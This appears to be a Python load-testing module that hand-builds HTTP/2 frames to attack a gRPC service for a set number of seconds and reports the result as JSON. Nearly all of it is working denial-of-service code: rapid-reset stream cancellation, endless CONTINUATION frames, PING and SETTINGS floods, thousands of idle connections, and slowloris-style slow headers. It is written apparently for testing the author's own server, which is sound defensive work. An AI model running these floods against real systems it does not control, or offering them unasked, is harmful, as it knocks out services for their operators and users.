"""Abuses HTTP/2 for some seconds, with frames made by hand, and prints as JSON what that came to.

    nice -n 19 python -m trials.http2_attacks rapid-reset 127.0.0.1:50080 --seconds 20

To be run with `nice -n 19`, so that it yields to all others: in the world, it would run on machines that are not ours.
"""

import argparse
import contextlib
import itertools
import json
import socket
import struct
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass

__all__ = ["KINDS", "Report"]

KINDS = ("rapid-reset", "continuation-flood", "ping-flood", "settings-flood", "idle-connections", "slow-headers")

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_HEADERS = 4
_CANCEL = 8
_METHOD = "/trivium.v1.TextAnalysisService/DetectLanguage"
_NUM_FLOODING = 4
_FRAMES_AT_ONCE = 200
_NUM_SLOW = 500
_IDLE_CONNECTIONS = 10_000
# A thousand idle connections come and go a second: that they are there is what is tried.
_BATCH = 50
_BETWEEN_BATCHES_S = 0.05


@dataclass(frozen=True, slots=True, kw_only=True)
class Report:
    """frames: sent. connections: opened. cut: of these, by the other side. held: of these, open at the end."""

    frames: int
    connections: int
    cut: int
    held: int


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _header(name: str, value: str) -> bytes:
    """As HPACK writes one that nobody is to remember."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


_REQUEST = b"".join(
    _header(name, value)
    for name, value in {
        ":method": "POST",
        ":scheme": "http",
        ":path": _METHOD,
        ":authority": "abuse",
        "content-type": "application/grpc",
        "te": "trailers",
    }.items()
)
_OPENING = _PREFACE + _frame(_SETTINGS, 0, 0)


def _rapid_resets() -> Iterator[bytes]:
    """Requests that are taken back as soon as they are made."""
    for stream in itertools.count(1, 2):
        reset = _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
        yield _frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + reset


def _continuations() -> Iterator[bytes]:
    """Headers that never end."""
    yield _frame(_HEADERS, 0, 1, _REQUEST)
    for number in itertools.count():
        yield _frame(_CONTINUATION, 0, 1, _header(f"x-{number % 100}", "x" * 100))


def _pings() -> Iterator[bytes]:
    while True:
        yield _frame(_PING, 0, 0, b"12345678")


def _settings() -> Iterator[bytes]:
    while True:
        yield _frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 100))


class _Caller:
    """One connection. Reads what it is sent, or else lets it pile up on the other side."""

    def __init__(self, address: tuple[str, int], *, opening: bytes, reads: bool) -> None:
        self._reads = reads
        self._unsent = opening
        self._socket = socket.socket()
        if not reads:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self._socket.settimeout(10)
        self._socket.connect(address)
        self._socket.settimeout(0)

    def send(self, frames: bytes = b"") -> bool:
        """Sends what fits, and keeps the rest for later: never more than was given at once. False: it was cut."""
        self._unsent = self._unsent or frames
        try:
            if self._reads and self._socket.recv(65536) == b"":
                return False
        except BlockingIOError:
            pass
        except ConnectionError:
            return False
        try:
            self._unsent = self._unsent[self._socket.send(self._unsent) :] if self._unsent else b""
        except BlockingIOError:
            pass
        except ConnectionError:
            return False
        return True

    @property
    def is_ready(self) -> bool:
        """All that it was given is sent."""
        return not self._unsent

    def close(self) -> None:
        self._socket.close()


def flood(address: tuple[str, int], seconds: float, frames: Callable[[], Iterator[bytes]]) -> Report:
    """Sends frames over some connections as fast as they are taken; who is cut connects again.

    Every other connection reads nothing.
    """
    num_frames = connections = cut = 0
    callers: dict[int, tuple[_Caller, Iterator[bytes]]] = {}
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s:
        for number in range(_NUM_FLOODING):
            if number not in callers:
                callers[number] = _Caller(address, opening=_OPENING, reads=number % 2 == 0), frames()
                connections += 1
            caller, source = callers[number]
            more = b""
            if caller.is_ready:
                more = b"".join(itertools.islice(source, _FRAMES_AT_ONCE))
                num_frames += _FRAMES_AT_ONCE
            if not caller.send(more):
                caller.close()
                del callers[number]
                cut += 1
    for caller, _ in callers.values():
        caller.close()
    return Report(frames=num_frames, connections=connections, cut=cut, held=len(callers))


def idle(address: tuple[str, int], seconds: float) -> Report:
    """Connects, greets, and says nothing more; tries until the end to have so many; leaves as slowly."""
    callers: list[_Caller] = []
    connections = cut = 0
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s:
        missing = min(_BATCH, _IDLE_CONNECTIONS - len(callers))
        with contextlib.suppress(OSError):
            for _ in range(missing):
                callers.append(_Caller(address, opening=_OPENING, reads=True))
                connections += 1
        kept = [caller for caller in callers if caller.send()]
        cut += len(callers) - len(kept)
        callers = kept
        time.sleep(_BETWEEN_BATCHES_S if missing else 1)
    for number, caller in enumerate(callers):
        caller.close()
        if number % _BATCH == 0:
            time.sleep(_BETWEEN_BATCHES_S)
    return Report(frames=connections, connections=connections, cut=cut, held=len(callers))


def slow(address: tuple[str, int], seconds: float) -> Report:
    """Sends headers letter by letter, a letter a second: half in HTTP/1.1, half in HTTP/2. Who is cut stays away."""
    plain = f"POST {_METHOD} HTTP/1.1\r\nhost: abuse\r\nx-endless: ".encode()
    begun = _OPENING + _frame(_HEADERS, 0, 1, _REQUEST)
    letters = [b"x", _frame(_CONTINUATION, 0, 1, _header("x", "x"))]
    callers = [(_Caller(address, opening=(plain, begun)[n % 2], reads=True), letters[n % 2]) for n in range(_NUM_SLOW)]
    frames = cut = 0
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s and callers:
        kept = [(caller, letter) for caller, letter in callers if caller.send(letter)]
        for caller, _ in set(callers) - set(kept):
            caller.close()
        cut += len(callers) - len(kept)
        frames += len(kept)
        callers = kept
        time.sleep(1)
    for caller, _ in callers:
        caller.close()
    return Report(frames=frames, connections=_NUM_SLOW, cut=cut, held=len(callers))


def attack(kind: str, address: tuple[str, int], seconds: float) -> Report:
    """Does what KINDS names."""
    floods = {
        "rapid-reset": _rapid_resets,
        "continuation-flood": _continuations,
        "ping-flood": _pings,
        "settings-flood": _settings,
    }
    if kind in floods:
        return flood(address, seconds, floods[kind])
    return idle(address, seconds) if kind == "idle-connections" else slow(address, seconds)


def main(arguments: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m trials.http2_attacks", description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=20.0)
    given = parser.parse_args(arguments)
    host, _, port = given.address.rpartition(":")
    print(json.dumps(asdict(attack(given.kind, (host, int(port)), given.seconds))))


if __name__ == "__main__":
    main()
